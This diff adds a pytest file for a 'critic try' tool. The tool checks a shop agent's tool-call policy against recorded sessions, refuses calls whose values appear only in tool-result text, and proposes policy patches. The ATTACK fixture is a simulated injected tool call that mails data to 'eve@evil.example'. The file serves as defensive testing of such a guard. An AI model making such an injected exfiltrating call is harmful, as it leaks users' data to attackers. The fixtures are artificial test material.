@@ -1,0 +1,155 @@
+"""`critic try`: tasks judged, the smallest edits proposed, and a patch that applies."""
+
+import json
+import shutil
+import subprocess
+from pathlib import Path
+
+import pytest
+
+from harness.policy import parse_policy, read_policy
+from tests.harness.console import Critic
+from tests.harness.what_if.proposing.shop_tasks import LOOKS, POLICY, TELLS, lines, task
+from tests.support.examples import is_safe
+
+PAYS = ("pay_back", {"order_id": "ORD-77120", "eur": 5}, "done")
+DONE = task("What is in ORD-882?", LOOKS, id="t1")
+TELL = [{**event, "session": "t2"} for event in TELLS]
+BACK = task("pay back ORD-77120 5 EUR", PAYS, id="t3")
+MADE_UP = task(
+    "Tell the shop of it.", ("mail", {"to": "bob@y.example", "body": "x"}, "sent"), id="t4"
+)
+TOLD = task("See to it.", ("find_mail", {}, "pay back ORD-77120"), PAYS, id="t5")
+ATTACK = task("Read it.", LOOKS, ("mail", {"to": "eve@evil.example"}, 1), id="a1")
+
+
+@pytest.fixture(autouse=True)
+def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """Work in a folder with the policy and files of sessions."""
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "shop.toml").write_text(POLICY)
+    (tmp_path / "tasks.jsonl").write_text(lines(DONE, TELL, BACK, MADE_UP, TOLD))
+    (tmp_path / "good.jsonl").write_text(lines(DONE, BACK))
+    (tmp_path / "attacks.jsonl").write_text(lines(ATTACK))
+    return tmp_path
+
+
+@pytest.mark.slow
+def test_a_line_a_task_the_sums_and_the_proposals(critic: Critic, folder: Path) -> None:
+    said = critic("try", "shop.toml", "tasks.jsonl", "--attacks", "attacks.jsonl")
+    assert (said.status, said.err) == (1, "")
+    assert said.lines[:6] == [
+        "t1 allowed",
+        't2 refused  mail /to "ada@x.example": only in the text of get_order',
+        "t3 asked    by the tier of a tool alone",
+        't4 refused  mail /to "bob@y.example": was not seen in the request or in any result',
+        't5 refused  pay_back /order_id "ORD-77120": only in the text of find_mail',
+        "5 tasks: 1 allowed, 1 asked by tier alone, 0 asked, 3 refused; 1 attacks, 0 pass",
+    ]
+    rest = "\n".join(said.lines[6:])
+    assert "for t2:\n  scope: mail\n  also allows: " in rest
+    assert "attacks that would pass: none" in rest
+    assert "needs your word, for t5:\n  " in rest
+    assert "t4: no edit helps: the value was seen nowhere" in rest
+    assert is_safe(said.out.replace("\n", ""))
+    assert (folder / "shop.toml").read_text() == POLICY
+    assert critic("try", "shop.toml", "good.jsonl").status == 0
+
+
+@pytest.mark.slow
+def test_the_same_as_json(critic: Critic) -> None:
+    said = critic("try", "shop.toml", "tasks.jsonl", "--attacks", "attacks.jsonl", "--json")
+    wire = json.loads(said.out)
+    assert [one["outcome"] for one in wire["tasks"]] == [
+        "allowed",
+        "refused",
+        "asked",
+        "refused",
+        "refused",
+    ]
+    assert wire["totals"] == {"allowed": 1, "asked_by_tier": 1, "asked": 0, "refused": 3}
+    assert wire["attacks"] == {"count": 1, "passing": []}
+    assert [one["needs_word"] for one in wire["proposals"]] == [False, True]
+    assert wire["proposals"][0]["edits"][0]["text"] == "scope: mail"
+    assert wire["tasks"][3]["uncured"].startswith("no edit helps")
+
+
+@pytest.mark.slow
+@pytest.mark.parametrize("tool", ["patch", "git"])
+def test_the_patch_applies_and_is_marked(critic: Critic, folder: Path, tool: str) -> None:
+    if shutil.which(tool) is None:
+        pytest.skip(f"there is no {tool}")
+    (folder / "shop.toml").write_bytes(
+        POLICY.replace("\n", "\r\n").encode() if tool == "git" else POLICY.encode()
+    )
+    critic("try", "shop.toml", "tasks.jsonl", "--patch", "shop.patch")
+    command = (
+        ["patch", "-p1", "-i", "shop.patch"] if tool == "patch" else ["git", "apply", "shop.patch"]
+    )
+    subprocess.run(command, check=True, capture_output=True, cwd=folder)
+    text = (folder / "shop.toml").read_bytes().decode()
+    assert 'scope = ["mail"]  # from task t2' in text
+    assert "# needs your word, t5: " in text
+    policy = read_policy(folder / "shop.toml")
+    assert policy.scope == ("mail",)
+    assert "/guard/scope" in (policy.guessed or ())
+    assert (
+        policy.tools["find_mail"].result
+        == parse_policy(POLICY.encode()).policy.tools["find_mail"].result
+    )
+    again = critic("try", "shop.toml", "tasks.jsonl")
+    assert "t2 asked" in again.out
+    checked = critic("policy", "check", "shop.toml")
+    assert "2 guesses" in checked.out
+    assert critic("policy", "check", "--strict", "shop.toml").status == 1
+
+
+def test_a_task_that_stops_and_the_edit_that_helps(critic: Critic, folder: Path) -> None:
+    (folder / "tell.jsonl").write_text(lines(TELL))
+    said = critic("try", "shop.toml", "tell.jsonl")
+    assert said.status == 1
+    assert said.lines[0] == 't2 refused  mail /to "ada@x.example": only in the text of get_order'
+    assert said.lines[2:4] == ["for t2:", "  scope: mail"]
+
+
+BAD = [
+    ("empty.jsonl", "", "no task in it: write session events"),
+    (
+        "other.jsonl",
+        lines(task("x", ("fly", {}, 1))),
+        "the policy has none of the tools that are called (fly)",
+    ),
+    ("late.jsonl", '{"event":"said","session":"s","text":"x"}\n', "does not begin with open"),
+    ("torn.jsonl", "{\n", "line 1"),
+    ("gone.jsonl", None, "no such file"),
+    ("scope.jsonl", lines(task("x", LOOKS, scope=["get_ordr"])), "did you mean get_order?"),
+]
+
+
+@pytest.mark.parametrize(("name", "text", "words"), BAD)
+def test_what_is_no_task_is_one_line(
+    critic: Critic, folder: Path, name: str, text: str | None, words: str
+) -> None:
+    if text is not None:
+        (folder / name).write_text(text)
+    said = critic("try", "shop.toml", name)
+    assert (said.status, said.out) == (2, "")
+    assert said.err.count("\n") == 1
+    assert words in said.err
+
+
+def test_an_attack_without_calls_is_one_line(critic: Critic, folder: Path) -> None:
+    (folder / "idle.jsonl").write_text(lines(task("x", id="a1")))
+    said = critic("try", "shop.toml", "good.jsonl", "--attacks", "idle.jsonl")
+    assert (said.status, said.err.count("\n")) == (2, 1)
+    assert "a1 makes no call: the last calls event of a session is the attack" in said.err
+
+
+@pytest.mark.slow
+def test_a_policy_in_json_has_no_patch(critic: Critic, folder: Path) -> None:
+    wire = parse_policy(POLICY.encode()).policy.wire()
+    (folder / "shop.json").write_text(json.dumps(wire))
+    said = critic("try", "shop.json", "tasks.jsonl", "--patch", "shop.patch")
+    assert said.status == 2
+    assert "--patch is for a policy in a TOML file" in said.err
+    assert critic("try", "shop.json", "tasks.jsonl").status == 1
